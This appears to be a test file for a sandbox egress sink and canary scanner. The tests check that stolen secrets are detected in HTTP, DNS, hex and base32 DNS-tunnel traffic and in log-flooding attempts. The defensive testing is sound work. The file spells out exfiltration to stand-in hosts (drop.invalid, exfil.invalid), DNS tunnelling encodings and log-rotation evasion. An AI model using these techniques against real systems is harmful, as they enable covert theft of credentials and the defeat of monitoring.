"""A hostile server's bytes as the egress sink reads them (images/sink/listener.py, run here in process on fake or
socketpair connections, no engine): whatever it sent that the sink read must reach the log line the host searches
for canaries (scanner.probes.egress_windows), and an exfiltration must not hide behind a DNS port or message."""

from __future__ import annotations

import base64
import errno
import json
import importlib.util
import socket
import struct
import threading
import time
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from sandbox.run.sink import EgressEvent
from scanner.probes.egress_drain import as_record
from scanner.probes.egress_windows import EgressWindows
from scanner.report.model import CallBehavior

# The sink's code of this checkout (an editable install may map sandbox.image_contexts to another one).
SINK_DIR = Path(__file__).resolve().parents[1] / "images" / "sink"
TOKEN = "ghp_CanaryCanaryCanary0123456789abcdefXY"


def _listener() -> ModuleType:
    spec = importlib.util.spec_from_file_location("sink_listener_hostile", SINK_DIR / "listener.py")
    assert spec is not None and spec.loader is not None
    listener = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(listener)
    return listener


class FakeConn:
    """An accepted connection redirected from 198.18.1.9:`port` (SO_ORIGINAL_DST) whose client sent `chunks`."""

    def __init__(self, chunks: list[bytes], port: int) -> None:
        self.chunks, self.port, self.sent = list(chunks), port, b""

    def settimeout(self, _seconds: float) -> None:
        pass

    def recv(self, size: int) -> bytes:
        return self.chunks.pop(0)[:size] if self.chunks else b""

    def getsockopt(self, *_args: Any) -> bytes:
        return struct.pack("!HH4s8x", socket.AF_INET, self.port, socket.inet_aton("198.18.1.9"))

    def sendall(self, data: bytes) -> None:
        self.sent += data

    def close(self) -> None:
        pass


def _handled(chunks: list[bytes], port: int) -> list[dict[str, Any]]:
    listener, logged = _listener(), []
    listener.emit = logged.append
    slots = threading.BoundedSemaphore(1)
    slots.acquire()
    listener.handle(FakeConn(chunks, port), socket.AF_INET, 1.0, slots)
    return logged


def _canary_hits(logged: list[dict[str, Any]]) -> list[str]:
    """What the host finds in those lines: each read as the scan reads it and placed into one call's record."""
    record = CallBehavior(call=0, tool="t", label="x", sandbox=0)
    windows = EgressWindows([], {TOKEN: "env GITHUB_TOKEN"}, [])
    windows.open(record, 0.0)
    windows.place([as_record(EgressEvent.from_json(line)) for line in logged if line.get("kind") in ("dns", "tcp", "udp")])
    return [hit.encoding for hit in record.canaries]


def _query(name: bytes, ident: int = 1) -> bytes:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\x00\x00\x01\x00\x01"


def test_an_http_request_to_port_53_keeps_its_bytes():
    """The DNS-over-TCP attempt read the bytes first; when they were no DNS, the connection was read again (nothing
    left) and logged with no bytes: a POST to any host's port 53 carried its secret unseen."""
    request = (b"POST /c HTTP/1.1\r\nHost: drop.invalid\r\nContent-Length: 46\r\n\r\ntoken=" + TOKEN.encode())
    logged = _handled([request], 53)
    assert [line["kind"] for line in logged] == ["tcp"]
    assert logged[0]["protocol"] == "http" and logged[0]["bytes"] == len(request)
    assert _canary_hits(logged) == ["plain"]


def test_bytes_after_a_dns_question_are_searched_udp_and_tcp():
    """A query for an innocent name with the secret after its question (an EDNS option, an extra record, a tail)
    went to the log as the name alone."""
    listener, logged = _listener(), []
    listener.emit = logged.append
    datagram = _query(b"ok.invalid") + TOKEN.encode()

    class OneDatagram:
        def __init__(self) -> None:
            self.sent: list[bytes] = []

        def recvfrom(self, _size: int) -> tuple[bytes, tuple[str, int]]:
            if self.sent:
                raise StopIteration  # ends serve_dns's loop (it only goes on past an OSError)
            return datagram, ("127.0.0.1", 40000)

        def sendto(self, data: bytes, _peer: tuple[str, int]) -> None:
            self.sent.append(data)

    try:
        listener.serve_dns(OneDatagram())
    except StopIteration:
        pass
    assert [(line["kind"], line["query"]) for line in logged] == [("dns", "ok.invalid")]
    assert _canary_hits(logged) == ["plain"]
    over_tcp = _handled([struct.pack("!H", len(datagram)) + datagram], 53)
    assert [(line["kind"], line["transport"]) for line in over_tcp] == [("dns", "tcp")]
    assert _canary_hits(over_tcp) == ["plain"]


def test_every_query_of_a_dns_over_tcp_connection_is_answered_and_logged():
    """DNS over TCP may carry several queries; only the first was answered and logged, the next one's name (here the
    secret hex-encoded across two labels) was never seen."""
    hexed = TOKEN.encode().hex().encode()
    second = _query(hexed[:60] + b"." + hexed[60:] + b".x.invalid", ident=2)
    first = _query(b"ok.invalid")
    conn_chunks = [struct.pack("!H", len(first)) + first + struct.pack("!H", len(second)) + second]
    logged = _handled(conn_chunks, 53)
    assert [line["query"] for line in logged] == ["ok.invalid", f"{hexed[:60].decode()}.{hexed[60:].decode()}.x.invalid"]
    assert "hex" in _canary_hits(logged)


def test_a_request_whose_body_comes_after_a_pause_is_read_to_its_length():
    """A client that waits before its body (curl's `Expect: 100-continue` waits 1 s for an answer the sink never
    sends) lost the body to the 0.3 s idle gap, though its Content-Length said it was still coming."""
    listener = _listener()
    body = b"token=" + TOKEN.encode()
    head = (b"POST /c HTTP/1.1\r\nHost: drop.invalid\r\nExpect: 100-continue\r\nContent-Length: "
            + str(len(body)).encode() + b"\r\n\r\n")
    server, client = socket.socketpair()
    with server, client:
        def send() -> None:
            client.sendall(head)
            time.sleep(listener.IDLE_GAP_SECONDS + 0.4)
            client.sendall(body)

        sender = threading.Thread(target=send)
        sender.start()
        data = listener.read_first(server)
        sender.join()
    assert data == head + body
    assert _canary_hits([{"ts": 1.0, "kind": "tcp", "port": 80, **listener.first_bytes(data)}]) == ["plain"]


def test_no_other_socket_can_bind_the_sinks_ports_beside_it():
    """The sink's sockets live in the namespace the server shares. With SO_REUSEADDR on the sink's UDP sockets, any
    uid (the server's too: Linux checks no uid for it) could bind the same loopback port with SO_REUSEADDR and take
    every DNS query and datagram redirected there (the last bound socket gets them): the sink saw none, the scan said
    no egress. A TCP listener cannot be shared that way."""
    listener = _listener()
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        own = listener.bind(socket.AF_INET, kind, "127.0.0.1", 0)
        thief = socket.socket(socket.AF_INET, kind)
        with own, thief:
            thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            with pytest.raises(OSError) as refused:
                thief.bind(own.getsockname())
            assert refused.value.errno == errno.EADDRINUSE


def test_a_secret_base32_encoded_across_dns_labels_is_found():
    """DNS names are case-insensitive, so DNS tunnels encode in base32 (or hex); a token base32-encoded across the
    labels of a lookup was not searched for (plain, base64 and hex were), at any of the five byte alignments, in
    either case."""
    for shift in range(5):
        encoded = base64.b32encode(b"x" * shift + TOKEN.encode()).decode().rstrip("=").lower()
        name = f"{encoded[:50]}.{encoded[50:]}.t.invalid"
        assert _canary_hits([{"ts": 1.0, "kind": "dns", "host": name, "query": name, "qtype": "A"}]) == ["base32"]


def _engine_entry(line: str) -> int:
    """The bytes the engine's json-file log stores for one stdout line: the line JSON-escaped again as Docker does it
    (`"` and `\\` two bytes, `<`, `>` and `&` as \\u003c..., HTML-safe), in its {"log","stream","time"} entry."""
    escaped = json.dumps(line + "\n")
    escaped = escaped.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    return len('{"log":' + escaped + ',"stream":"stdout","time":"2026-12-07T05:15:41.123456789Z"}\n')


def test_a_flood_of_fat_lines_cannot_rotate_the_engines_log_before_the_sink_says_it_stopped(monkeypatch, capsys):
    """The engine keeps the sink's log in one json-file of 20 MB and, past that, rotates it: the lines before are
    gone and a read sees the log from the rotation on. A server that first sent its secret, then 1,300 ClientHellos
    whose SNI and ALPN are `<` and `>` (six bytes each once the engine escapes them), under the 2,000-event cap, had
    its exfiltration dropped and the scan said nothing was missing (reproduced live: 400 of 1,301 events read back,
    the canary's not among them). The sink now stops logging with a `limit` line before its lines would pass 16 MiB
    of the engine's file, which the scan reports as a gap."""
    listener = _listener()
    max_size = 20 * 1000 * 1000  # the engine's "20m" (whichever unit it means: the smaller)
    listener.emit({"kind": "tcp", "host": "exfil.invalid", "port": 443, **listener.first_bytes(TOKEN.encode())})
    fat = {"kind": "tcp", "host": "<" * 512, "sni": "<" * 512, "alpn": [">" * 255] * 8, "port": 443,
           "protocol": "tls", **listener.first_bytes(b"\x16\x03\x01" + b"<" * 2_600)}
    for _ in range(1_300):
        listener.emit(fat)
    lines = capsys.readouterr().out.splitlines()
    assert sum(_engine_entry(line) for line in lines) < max_size
    assert json.loads(lines[0])["host"] == "exfil.invalid"
    limit = json.loads(lines[-1])
    assert limit["kind"] == "limit" and limit["reason"] == "log size" and limit["events"] == len(lines) - 1
    assert all(listener.engine_bytes(line) >= _engine_entry(line) for line in lines)

    from sandbox.run.sink import Sink
    from sandbox.run.sink_log import SinkLog

    sink = Sink(None, "sink", "img", 0.1, {}, 0.0,  # type: ignore[arg-type]
                log=SinkLog(None, "sink", lines=[{**limit, "ts": 1_700_000_000.5}]))  # type: ignore[arg-type]
    assert sink.gaps() == [f"the egress sink stopped logging after {limit['events']:,} events, its log's size cap "
                           "reached (at 22:13:20.500 UTC): network attempts after that were answered but not seen"]
